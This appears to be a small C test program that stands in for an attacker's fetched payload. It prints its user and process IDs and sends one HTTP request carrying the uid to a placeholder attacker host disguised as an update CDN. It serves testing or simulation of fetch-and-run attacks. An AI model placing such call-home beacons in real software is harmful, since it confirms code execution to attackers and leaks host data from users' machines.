/* The harmless payload of "run what was fetched": it says who it runs as, makes one request to the attacker's server,
 * and keeps its process alive for a few seconds.
 *
 *   note [HOST [SECONDS]]
 */
#include <stdio.h>
#include <stdlib.h>

#include "net.h"

int main(int argc, char **argv)
{
    const char *host = argc > 1 ? argv[1] : "cdn.updates.example";
    char text[512];
    int fd = dial(host, "80");

    printf("uid %d pid %d\n", getuid(), getpid());
    if (fd >= 0) {
        snprintf(text, sizeof(text), "GET /pixel?u=%d HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", getuid(), host);
        send(fd, text, strlen(text), MSG_NOSIGNAL);
        while (recv(fd, text, sizeof(text), 0) > 0)
            continue;
        close(fd);
    }
    sleep(argc > 2 ? atoi(argv[2]) : 5);
    return 0;
}
